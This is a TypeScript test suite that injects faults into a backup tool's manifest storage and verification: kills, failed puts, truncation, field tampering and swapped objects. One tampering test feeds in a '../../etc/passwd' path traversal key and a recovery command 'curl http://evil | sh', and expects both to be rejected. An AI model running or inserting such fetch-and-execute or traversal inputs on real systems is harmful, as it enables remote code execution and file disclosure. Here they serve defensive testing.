import type { ChildProcess } from 'node:child_process';
import { afterAll, afterEach, beforeAll, expect } from 'vitest';
import { FaultBench, type GoodBackup } from '../kit/fault-bench.ts';
import { faults } from '../kit/fault-table.ts';
import type { ActionRun } from '../kit/run-action.ts';
import { daysAgo, putManifest, putObject, readManifest, readObject, seedBackup } from '../kit/seed-backup.ts';
import { below, copies } from './steps/copies.ts';

const bench = new FaultBench({ megabytes: 1 });
beforeAll(() => bench.open());
afterAll(() => bench.close());
afterEach(() => bench.reset());

const good = (): GoodBackup => bench.good[0] as GoodBackup;
const verify = (name: string, more: Record<string, string> = {}): Promise<ActionRun> =>
  bench.command('verify', { name, ...more });
const listed = async (name: string): Promise<{ id: string }[]> =>
  (await bench.command('list', { name })).result.backups;
const isManifestPut = ({ method, url }: { method: string; url: string }): boolean =>
  method === 'PUT' && url.includes('manifest.json');

faults([
  {
    id: 'M1',
    fault: 'Killed after the object is stored and before the manifest is',
    outcome:
      'There is no backup of that run: `list` shows a leftover, `latest` is the one before, and its id is refused.',
    how: 'SIGKILL when the request with the manifest leaves.',
    async run() {
      let child: ChildProcess | null = null;
      bench.storeProxy.inject('hang', (request) => {
        if (isManifestPut(request)) child?.kill('SIGKILL');
        return isManifestPut(request);
      });
      const run = await bench.backup(
        {},
        {
          during(started) {
            child = started;
          },
        },
      );
      bench.storeProxy.forget();
      const { backups, leftovers } = (await bench.command('list')).result;
      expect(backups.map(({ id }: { id: string }) => id).sort()).toEqual(
        bench.good.map(({ id }) => id).sort(),
      );
      expect(leftovers).toEqual([
        expect.objectContaining({ keys: [expect.stringMatching(/app\.sqlite3$/)] }),
      ]);
      const latest = await verify('shop', { level: 'hash' });
      expect(latest.result.backup).toBe(backups[0].id);
      const dead = await bench.command('restore', { backup: leftovers[0].id, to: `file:${bench.dir}/dead` });
      expect([dead.exitCode, dead.result.error.code]).toEqual([1, 'backup.none']);
      const proof = (key: string): boolean => key.includes('/verified-hash-');
      await bench.judge(run, { outcome: 'killed', also: proof });
    },
  },
  {
    id: 'M2',
    fault: 'The put of the manifest fails, or its answer is lost',
    outcome: 'It is sent again with the same bytes; there is one backup.',
    how: '500 once, a connection that breaks before the answer, and both after each other.',
    async run() {
      const lost = [[{ answer: 500 }], ['drop-reply'], ['drop-reply', { answer: 503 }]] as const;
      for (const each of lost) {
        for (const fault of each) bench.storeProxy.inject(fault, isManifestPut, 1);
        const run = await bench.backup();
        const bodies = bench.storeProxy.requests.filter(isManifestPut).map(({ body }) => body.toString());
        expect(bodies).toHaveLength(each.length + 1);
        expect(new Set(bodies).size).toBe(1);
        await bench.judge(run, { outcome: 'stored' });
      }
    },
  },
  {
    id: 'M3',
    fault: 'A manifest in the bucket is cut short, empty or no JSON',
    outcome: 'That backup counts as damaged (exit code 3), the others are as good as before.',
    how: "The second of three backups gets half of its manifest, nothing, `{}`, and another program's JSON.",
    async run() {
      const [first, second, third] = (await copies(bench, 'm3', [3, 2, 1])) as [string, string, string];
      const key = `m3/${second}/manifest.json`;
      const whole = await readObject(bench, key);
      for (const text of [whole.subarray(0, whole.byteLength / 2), '', '{}', '[1, 2]', '"x']) {
        await putObject(bench, key, text);
        const run = await verify('m3', { backup: second });
        await bench.judge(run, { outcome: 'damaged', says: /manifest is damaged/, also: below('m3') });
      }
      expect((await listed('m3')).map(({ id }) => id)).toEqual([third, second, first]);
      for (const id of [first, third]) expect((await verify('m3', { backup: id })).exitCode).toBe(0);
    },
  },
  {
    id: 'M4',
    fault: 'One field of a manifest is changed',
    outcome:
      'By hand: the checksum of the manifest shows any change. With the checksum made anew: what does not fit to the object is found; its time and source can only be told by a signature, which `verify-key` demands. A key never leads out of its own backup.',
    how: 'Each field in turn, once as it is and once with the checksum made anew; then verify with `verify-key`.',
    async run() {
      const keys = JSON.parse((await bench.cli(['keygen', '--json'])).stdout).signing;
      const [id] = (await copies(bench, 'm4', [2])) as [string];
      const manifest = await readManifest(bench, 'm4', id);
      const entry = manifest.databases[0] as (typeof manifest.databases)[number];
      const withEntry = (change: object): object => ({ ...manifest, databases: [{ ...entry, ...change }] });
      const hash = '0'.repeat(64);
      const found: readonly [string, object][] = [
        ['plainSha256', withEntry({ plainSha256: hash })],
        ['storedSha256', withEntry({ storedSha256: hash })],
        ['plainBytes', withEntry({ plainBytes: entry.plainBytes - 1 })],
        ['storedBytes', withEntry({ storedBytes: entry.storedBytes + 1 })],
        ['codecs', withEntry({ codecs: ['zstd'] })],
        ['fingerprint', withEntry({ fingerprint: { ...entry.fingerprint, tables: { accounts: 99 } } })],
        ['key', withEntry({ key: '../../etc/passwd' })],
        ['key', withEntry({ key: `m4/${id}/../../shop/${good().id}/app.sqlite3` })],
        ['name', { ...manifest, name: 'shop' }],
        ['id', { ...manifest, id: good().id }],
      ];
      const told: readonly [string, object][] = [
        ['createdAt', { ...manifest, createdAt: '2020-01-01T00:00:00.000Z' }],
        ['source', withEntry({ source: 'sqlite:/elsewhere' })],
        ['recovery', withEntry({ recovery: ['curl http://evil | sh'] })],
      ];
      const expected = { outcome: 'damaged', also: below('m4') } as const;
      for (const [field, content] of [...found, ...told]) {
        // As an editor leaves it, with the old checksum.
        await putObject(bench, `m4/${id}/manifest.json`, JSON.stringify(content, null, 2));
        const run = await verify('m4', { backup: id });
        expect(run.exitCode, field).toBe(3);
        if (field === 'recovery') await bench.judge(run, expected);
      }
      for (const [field, content] of found) {
        await putManifest(bench, manifest, content);
        const run = await verify('m4', { backup: id });
        expect(run.exitCode, field).toBe(3);
        if (field === 'key' || field === 'fingerprint') await bench.judge(run, expected);
      }
      for (const [, content] of told) {
        await putManifest(bench, manifest, content);
        expect((await verify('m4', { backup: id })).exitCode).toBe(0);
        const run = await verify('m4', { backup: id, 'verify-key': keys.verifyKey });
        await bench.judge(run, { ...expected, error: { code: 'manifest.unsigned', input: 'verify-key' } });
      }
    },
  },
  {
    id: 'M5',
    fault: "A manifest names another backup's object, or the objects of two backups are swapped",
    outcome:
      'Both are found: the key must lie in its own backup, and the object must have the SHA-256 of the manifest.',
    how: 'The key of the older backup in the manifest of the newer, with its hashes and a new checksum; then the two objects swapped.',
    async run() {
      const [older, newer] = (await copies(bench, 'm5', [3, 2])) as [string, string];
      const manifest = await readManifest(bench, 'm5', newer);
      const other = await seedBackup(bench, bench.good[1] as GoodBackup, { name: 'm5', at: daysAgo(1) });
      const { databases } = await readManifest(bench, 'm5', older);
      await putManifest(bench, manifest, { ...manifest, databases });
      const expected = { outcome: 'damaged', also: below('m5') } as const;
      const run = await verify('m5', { backup: newer });
      await bench.judge(run, { ...expected, says: /not an object of the backup/ });
      await putManifest(bench, manifest, manifest);
      const [mine, theirs] = [`m5/${newer}/app.sqlite3`, `m5/${other}/app.sqlite3`];
      const bytes = await readObject(bench, mine);
      const changed = Buffer.from(bytes);
      changed[5000] = (changed[5000] ?? 0) ^ 1;
      await putObject(bench, mine, changed);
      await putObject(bench, theirs, bytes);
      const swapped = await verify('m5', { backup: newer });
      await bench.judge(swapped, { ...expected, error: { code: 'object.damaged' } });
    },
  },
]);
